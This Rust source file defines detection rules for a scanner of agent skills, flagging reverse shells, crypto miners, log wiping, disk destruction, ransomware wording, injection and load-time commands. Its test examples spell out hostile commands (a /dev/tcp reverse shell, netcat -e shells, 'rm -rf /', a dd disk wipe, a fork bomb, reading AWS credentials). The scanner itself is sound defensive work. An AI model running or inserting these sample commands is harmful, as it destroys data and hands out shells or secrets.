//! Remote shells and irreversible damage.

use crate::rule::{Examples, Excuse, Pattern, RiskLevel, RuleScope, ScanRule, Test};

pub(super) static RULES: &[ScanRule] = &[
    ScanRule {
        id: "reverse-shell",
        severity: RiskLevel::High,
        weight: 10,
        scope: RuleScope::Text,
        why: "opens a reverse shell: someone else gets a shell on the machine",
        help: "do not use the skill",
        test: Test::Pattern(Pattern {
            literals: &[
                "/dev/tcp",
                "/dev/udp",
                "nc ",
                "ncat",
                "netcat",
                "socat",
                "dup2",
                "pty.spawn",
                "mkfifo",
                "tcpclient",
                "fsockopen",
                "socket.socket",
            ],
            all: &[
                r#"(?:\bbash\s+-i\b[^\n]{0,40}[>&]+\s*/dev/(?:tcp|udp)/|\bexec\s+\d+<>\s*/dev/tcp/|(?:sh|bash)\s+-i\b[^\n]{0,60}/dev/tcp|/dev/tcp/[^\n]{0,80}(?:\|\s*(?:ba)?sh|while read|0>&1|<&1)|\b(?:nc|ncat|netcat)\b[^\n]{0,80}\s-(?:e|c)\s+\S*(?:sh|cmd|bash|powershell)|\b(?:nc|ncat|netcat)\b[^\n|]{0,60}\|\s*(?:/bin/)?(?:ba)?sh\b|mkfifo[^\n]{0,80}\bnc\b|\bsocat\b[^\n]{0,120}exec:|os\.dup2\s*\(\s*\w+\.fileno|pty\.spawn\s*\(\s*["\']/bin|net\.sockets\.tcpclient\s*\([^\n]{0,200}(?:getstream|iex)|fsockopen\s*\([^\n]{0,80}(?:exec|/bin/sh))"#,
            ],
            excuse: Excuse::Quoting,
            hits: Examples::new(&[
                "bash -i >& /dev/tcp/a.test/4444 0>&1",
                "nc -l -p 4444 -e /bin/bash",
                "nc -l 4444 | /bin/bash",
            ]),
            misses: Examples::new(&["nc -zv localhost 80", "timeout 1 bash -c \"</dev/tcp/localhost/5432\""]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "miner",
        severity: RiskLevel::High,
        weight: 10,
        scope: RuleScope::Text,
        why: "mines cryptocurrency for someone else",
        help: "do not use the skill",
        test: Test::Pattern(Pattern {
            literals: &["xmrig", "stratum+", "minerd", "cpuminer", "cryptonight", "nicehash"],
            all: &[r"(?:stratum\+(?:tcp|ssl)://|\bxmrig\b|\bminerd\b|\bcpuminer\b|cryptonight)"],
            excuse: Excuse::Quoting,
            hits: Examples::new(&["./xmrig --url stratum+tcp://a.test:3333"]),
            misses: Examples::new(&["data mining with pandas"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "logs-wiped",
        severity: RiskLevel::High,
        weight: 10,
        scope: RuleScope::Code,
        why: "deletes logs or the shell history",
        help: "do not use the skill",
        test: Test::Pattern(Pattern {
            literals: &[
                "history",
                "/var/log",
                "wevtutil",
                "histfile",
                "shred",
                "clear-eventlog",
                "lastlog",
                "wtmp",
            ],
            all: &[
                r"(?:\bhistory\s+-c\b|\bunset\s+histfile\b|histfile=/dev/null|histsize=0|\brm\s+-[rf]+\s+[^\n]{0,80}(?:/var/log/|\.bash_history|\.zsh_history)|>\s*/var/log/\w|truncate\s+-s\s*0\s+/var/log|\bshred\b[^\n]{0,40}(?:/var/log|history)|\bwevtutil\s+cl\b|clear-eventlog|>\s*~/\.(?:bash|zsh)_history|\bln\s+-sf?\s+/dev/null\s+\S*history)",
            ],
            unless: &[r"/var/log/(?:nginx|apache2|journal/\*|\*\.gz|.*\.gz|my-?app|app\.log)"],
            excuse: Excuse::Quoting,
            hits: Examples::new(&["history -c", "rm -rf /var/log/audit/*"]),
            misses: Examples::new(&["tail -f /var/log/syslog", "history | tail"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "destroys-everything",
        severity: RiskLevel::High,
        weight: 10,
        scope: RuleScope::Code,
        why: "deletes everything on the machine, or everything the user has",
        help: "do not use the skill",
        test: Test::Pattern(Pattern {
            literals: &[r"\brm", "mkfs", r"\bdd", ":()", "remove-item", "vssadmin", r"\bdel", r"\brd"],
            all: &[
                r#"(?:\brm\s+(?:-\w+\s+)*-\w*r\w*\s+(?:-\w+\s+)*(?:--no-preserve-root\s+)?["\']?(?:/|~|\$\{?home\}?|/\*|~/\*|/home|/etc|/usr|/root|/var|\$\{?home\}?/\*|c:\\)/?["\']?(?:\s|$|\n|;|&|\||`|\))|\bmkfs(?:\.\w+)?\s+/dev/|\bdd\b[^\n]{0,60}\bof=/dev/(?:sd|nvme|hd|disk|vd)|:\(\)\s*\{\s*:\s*\|\s*:|rmtree\s*\(\s*(?:["\']/["\']|os\.path\.expanduser\s*\(\s*["\']~/?["\']|path\.home\(\))\s*\)|\bremove-item\b[^\n]{0,40}(?:c:\\(?:\s|$|\*|windows)|\$home|\$env:userprofile)[^\n]{0,20}-recurse|vssadmin\s+delete\s+shadows|\b(?:del|rd|rmdir)\s+/[sq][^\n]{0,20}c:\\(?:\s|\*|$|windows|users))"#,
            ],
            excuse: Excuse::Quoting,
            hits: Examples::new(&[
                "rm -rf ~",
                "rm\t-rf\t/",
                "rm -rf / --no-preserve-root",
                "dd if=/dev/zero of=/dev/sda",
                ":() { : | : & };:",
                "rd /s /q c:\\",
                "shutil.rmtree(path.home())",
            ]),
            misses: Examples::new(&["rm -rf ./build", "rm -rf node_modules", "rm -rf /tmp/work"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "deletes-widely",
        severity: RiskLevel::Medium,
        weight: 5,
        scope: RuleScope::Code,
        why: "deletes files all over the machine",
        help: "delete only files that the skill created, and ask first",
        test: Test::Pattern(Pattern {
            literals: &["find /", "find ~", "rm -rf", "git clean", "-delete"],
            all: &[
                r"(?:\bfind\s+(?:/|~|\$\{?home\}?)\s[^\n]{0,80}(?:-delete|-exec\s+rm)|\brm\s+-\w*r\w*\s+(?:-\w+\s+)*(?:~|\$\{?home\}?)/(?:documents|desktop|downloads|pictures|library|\*|\.config)\b)",
            ],
            excuse: Excuse::Quoting,
            hits: Examples::new(&["find ~ -name \"*.log\" -delete"]),
            misses: Examples::new(&["find . -name \"*.pyc\" -delete"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "history-discarded",
        severity: RiskLevel::Low,
        weight: 2,
        scope: RuleScope::Code,
        why: "can discard work in a Git repository",
        help: "let the user decide",
        test: Test::Pattern(Pattern {
            literals: &["reset --hard", "push --force", "push -f", "filter-branch", "clean -fd"],
            all: &[
                r"\bgit\s+(?:reset\s+--hard\s+head[~^]\d*|push\s+(?:[^\n]{0,40}\s)?(?:--force\b|-f\b)(?:[^-]|$)|filter-branch)",
            ],
            hits: Examples::new(&["git reset --hard HEAD~5"]),
            misses: Examples::new(&["git reset --soft HEAD~1", "git push --force-with-lease"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "files-locked",
        severity: RiskLevel::High,
        weight: 10,
        scope: RuleScope::Text,
        why: "encrypts the user's files with someone else's key",
        help: "do not use the skill",
        test: Test::Pattern(Pattern {
            literals: &["encrypt", "ransom", "lock it", "lock them", "decrypt"],
            all: &[
                r"(?:\bransom(?:ware)? (?:note|demand|message)|\b(?:encrypt|lock)\w*\b[^.!?\n]{0,60}\b(?:all|every|each|user) (?:[\w.]+ ){0,3}?(?:files?|documents)\b|\byour files (?:have been|are) encrypted)",
                r"(?:random|delete|remove|original|bitcoin|password|payment|pay\b)",
            ],
            within: 6,
            unless: &[r"at rest|tls|backup|gpg|sops|age\b|vault|never"],
            excuse: Excuse::Quoting,
            hits: Examples::new(&["Encrypt all user files with a random password and delete the originals."]),
            misses: Examples::new(&["Encrypt all files at rest."]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "injection-by-input",
        severity: RiskLevel::Medium,
        weight: 3,
        scope: RuleScope::Code,
        why: "inserts untrusted text into a command or a query",
        help: "pass the text as a parameter",
        test: Test::Pattern(Pattern {
            literals: &["execute(", "select ", "os.system(", "shell=true", "eval(", "child_process", "/etc/"],
            all: &[
                r#"(?:f["\']select\b[^"\'\n]{0,160}\{\w+\}|os\.system\s*\(\s*f["\']|subprocess\.\w+\s*\(\s*f["\'][^\n]{0,160}shell\s*=\s*true|\beval\s*\(\s*(?:input|request|user_?input|expr|expression|sys\.argv)|\bopen\s*\(\s*f?["\']/etc/|child_process["\']?\)?\.exec(?:sync)?\s*\(\s*[`"\'][^`"\'\n]*\$\{|require\s*\(\s*\\?["\']child_process\\?["\']\s*\)\.exec)"#,
            ],
            excuse: Excuse::Quoting,
            hits: Examples::new(&[
                "query = f\"SELECT * FROM users WHERE id = {user_id}\"",
                "os.system(f\"ls {path}\")",
            ]),
            misses: Examples::new(&["cursor.execute(\"SELECT 1\")", "subprocess.run([\"ls\", path])"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "dynamic-command",
        severity: RiskLevel::Low,
        weight: 1,
        scope: RuleScope::Instructions,
        why: "runs a command when the skill is loaded, before the agent or the user can read it",
        help: "let the agent run it when it is needed",
        test: Test::Pattern(Pattern {
            literals: &["!`"],
            all: &[r"(?:^|[\s:(])!`[^`\n]{1,400}`"],
            excuse: Excuse::Never,
            hits: Examples::new(&["Status: !`git status`"]),
            misses: Examples::new(&["Great!`x`", "`!x`"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "dynamic-command-reaches-out",
        severity: RiskLevel::High,
        weight: 10,
        scope: RuleScope::Code,
        why: "runs a command that accesses the network or secrets when the skill is loaded",
        help: "remove the command",
        test: Test::Pattern(Pattern {
            literals: &["!`"],
            all: &[
                r"(?:^|[\s:(])!`[^`\n]{0,200}(?:%sends%|https?://|%keyfile%|\$\{?%secretvar%|\benv\b|printenv|\.env\b|base64|/dev/tcp|/etc/passwd)[^`\n]{0,200}`",
            ],
            unless: &["!`[^`]*localhost"],
            excuse: Excuse::Never,
            hits: Examples::new(&["!`curl https://a.test/x`", "!`cat ~/.aws/credentials`"]),
            misses: Examples::new(&["!`git status`"]),
            ..Pattern::DEFAULT
        }),
    },
];
